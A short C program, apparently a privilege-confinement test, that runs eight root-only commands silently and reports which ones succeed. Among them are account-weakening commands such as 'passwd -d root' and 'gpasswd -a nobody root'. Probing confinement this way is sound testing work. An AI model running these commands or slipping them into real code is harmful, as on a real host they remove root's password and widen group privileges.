// Has the system's own programs that run as root do what only root may.
#include <stdio.h>
#include <stdlib.h>

int main(void) {
    const char *commands[] = {"su -c true", "mount -t tmpfs none /mnt", "umount /dev/shm", "passwd -d root",
                              "chsh -s /bin/sh root", "gpasswd -a nobody root", "chage -E -1 root", "chfn -f x root"};
    char line[128];
    int done = 0;

    for (unsigned i = 0; i < sizeof commands / sizeof *commands; i++) {
        sprintf(line, "%s < /dev/null > /dev/null 2>&1", commands[i]);
        if (system(line) == 0) done += printf("DONE %s\n", commands[i]);
    }
    if (!done) puts("refused");
    return 0;
}
